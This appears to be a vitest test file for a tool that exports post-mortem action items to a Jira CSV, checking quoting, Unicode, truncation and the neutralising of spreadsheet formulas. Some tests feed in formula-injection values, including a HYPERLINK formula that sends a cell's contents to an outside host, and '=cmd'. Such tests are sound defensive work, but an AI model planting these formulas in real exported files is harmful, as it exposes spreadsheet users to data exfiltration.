import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { inspect } from '../../server/src/service/index.ts';
import { context, documents, exported, exportedText, read } from './documents.ts';

/** The rows of a file, as another library reads them. */
function rowsOf(text: string): readonly Record<string, string>[] {
  return parse(text, { columns: true, record_delimiter: '\r\n' });
}

const head = `# Post-Mortem: Search, "index" lost

**Date:** 2024-01-30

## Action Items

`;

describe('the CSV for Jira', () => {
  it('has a row for each action', () => {
    const text = `${head}- [ ] Alert on depth above 10k (owner: @olu and Mei Sato; due: 2024-03-01; status: blocked; ticket: OPS-12)
- [x] Rotate the keys (@arjun)
- [ ] Write the runbook (owner: @olu, due: end of Q2)
`;
    expect(exportedText(text, 'jira-csv')).toBe(
      [
        'Summary,Issue Type,Description,Assignee,Labels,Due date,Status,External issue ID',
        'Alert on depth above 10k,Task,"From the post-mortem: Search, ""index"" lost (2024-01-30), example.md\nOwners: olu, Mei Sato\nTicket: OPS-12",olu,post-mortem,2024-03-01,Blocked,OPS-12',
        'Rotate the keys,Task,"From the post-mortem: Search, ""index"" lost (2024-01-30), example.md",arjun,post-mortem,,Done,',
        'Write the runbook,Task,"From the post-mortem: Search, ""index"" lost (2024-01-30), example.md\nDue: end of Q2",olu,post-mortem,,To Do,',
        '',
      ].join('\r\n'),
    );
  });

  it('has none for what says nothing yet', () => {
    const rows = rowsOf(
      exportedText(`${head}- [ ] TODO\n- [ ] [Action]\n- [ ] Write the runbook\n`, 'jira-csv'),
    );
    expect(rows.map(({ Summary }) => Summary)).toEqual(['Write the runbook']);
  });

  it('is read back with commas, quotes, signs of all scripts and code', () => {
    const actions = ['Fix "a, b"; c', 'Use `x,y` in the 決済 flow 🔥', 'Tell the on-call, then wait'];
    const rows = rowsOf(
      exportedText(head + actions.map((action) => `- [ ] ${action}\n`).join(''), 'jira-csv'),
    );
    expect(rows.map(({ Summary }) => Summary)).toEqual(actions.map((action) => action.replaceAll('`', '')));
  });

  it.each([
    ['=HYPERLINK("https://example.com/?"&A1,"click")'],
    ['+1 replica for the broker'],
    ['\\- 3 replicas'],
    ['@SUM(A1:A9) is wrong in the report'],
  ])('keeps %s from becoming a formula', (action) => {
    const table = `| Action | Due |\n| --- | --- |\n| ${action} | 2024-03-01 |\n`;
    const [row] = rowsOf(exportedText(head + table, 'jira-csv'));
    expect(row?.Summary).toMatch(/^'/);
  });

  it('has no cell that a spreadsheet would run, whoever is named', () => {
    const table =
      '| Action | Owner | Ticket |\n| --- | --- | --- |\n| Fix it | @john | =1+1 |\n| Mend it | =cmd | -OPS |\n';
    const cells = rowsOf(exportedText(head + table, 'jira-csv')).flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('john');
  });

  it('cuts what Jira would refuse as a summary, and keeps it in the description', () => {
    const action = `Alert on ${'depth and lag 🔥 '.repeat(30)}`.trim();
    const [row] = rowsOf(exportedText(`${head}- [ ] ${action}\n`, 'jira-csv'));
    expect(row?.Summary?.length).toBeLessThanOrEqual(255);
    expect(row?.Summary).toMatch(/[^\uD83D]…$/);
    expect(row?.Description).toContain(action);
  });
});

describe.each(documents)('%s', (path) => {
  const analysis = read(path);

  it('is read back', () => {
    const { actionItems } = inspect(analysis, context.configuration);
    const made = exported(analysis, 'jira-csv');
    if ('refusal' in made) return expect(actionItems).toEqual([]);
    const rows = rowsOf(made.text);
    expect(made.text).not.toMatch(/[^\r]\n(?=[^"]*(?:"[^"]*"[^"]*)*$)/);
    expect(rows.map((row) => [row['Due date'], row['External issue ID']])).toEqual(
      actionItems.map(({ due, ticket }) => [due ?? '', ticket ?? '']),
    );
    expect(rows.map(({ Assignee }) => Assignee)).toEqual(actionItems.map(({ owners }) => owners[0] ?? ''));
  });
});
